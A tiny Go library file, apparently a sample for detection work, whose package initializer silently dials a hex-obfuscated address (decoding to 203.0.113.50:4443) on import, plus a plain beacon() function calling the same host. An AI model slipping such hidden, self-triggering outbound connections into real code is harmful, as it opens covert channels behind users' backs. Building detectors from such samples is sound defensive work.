// A collection address kept in hex and dialled from a package-level
// initializer; a second, plain raw-IP endpoint beside it.
package lib

import (
	"encoding/hex"
	"net"
)

var conn, _ = net.Dial("tcp", decode("3230332e302e3131332e35303a34343433"))

func decode(s string) string {
	b, _ := hex.DecodeString(s)
	return string(b)
}

func beacon() {
	net.Dial("tcp", "203.0.113.50:4443")
}
